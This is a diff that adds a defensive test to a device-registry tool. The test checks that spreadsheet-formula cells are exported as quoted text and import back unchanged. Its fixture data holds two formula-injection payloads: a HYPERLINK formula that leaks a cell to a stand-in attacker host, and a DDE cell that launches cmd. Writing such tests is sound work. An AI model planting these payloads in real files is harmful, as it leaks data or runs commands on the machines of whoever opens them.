@@ -256,6 +256,38 @@ def test_an_export_imports_back_unchanged_as_csv_and_as_json_lines(registry, tmp
         )
 
 
+def test_formula_cells_export_as_text_and_import_back_unchanged(registry, tmp_path, device_type, local_server):
+    macs = _macs(3)
+    values = [
+        ('=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "hall 1"),
+        ("Gate sensor", "+cmd|' /C calc'!A0"),
+        ("Buoy", "-12.5"),
+    ]
+    source = tmp_path / "formulas.jsonl"
+    source.write_text(
+        "".join(
+            json.dumps({"name": name, "device_type": device_type, "mac_address": mac, "location": location}) + "\n"
+            for (name, location), mac in zip(values, macs, strict=True)
+        )
+    )
+    assert registry("import", str(source)).exit_code == 0
+    exported = tmp_path / "export.csv"
+    assert registry("export", "--device-type", device_type, "-o", str(exported)).exit_code == 0
+
+    rows = list(csv.DictReader(exported.open()))
+    # No cell a spreadsheet would run: each is text, its quote the file's alone.
+    assert sorted((row["name"], row["location"]) for row in rows) == sorted(
+        ("'" + name if name[0] in "=+-" else name, "'" + location if location[0] in "=+-" else location)
+        for name, location in values
+    )
+    again = registry("import", str(exported))
+    assert again.exit_code == 0, again.output
+    assert "3 devices: created 0, already present 3, failed 0." in again.output
+    listed = requests.get(f"{local_server}/devices", params={"device_type": device_type}, timeout=30).json()["items"]
+    details = [requests.get(f"{local_server}/devices/{device['id']}", timeout=30).json() for device in listed]
+    assert sorted((device["name"], device["location"]) for device in details) == sorted(values)
+
+
 def test_status_reports_are_sent_in_batches_and_a_repeat_changes_nothing(registry, tmp_path, device_type, local_server):
     source = _devices_csv(tmp_path / "fleet.csv", device_type, 30)
     assert registry("import", str(source)).exit_code == 0
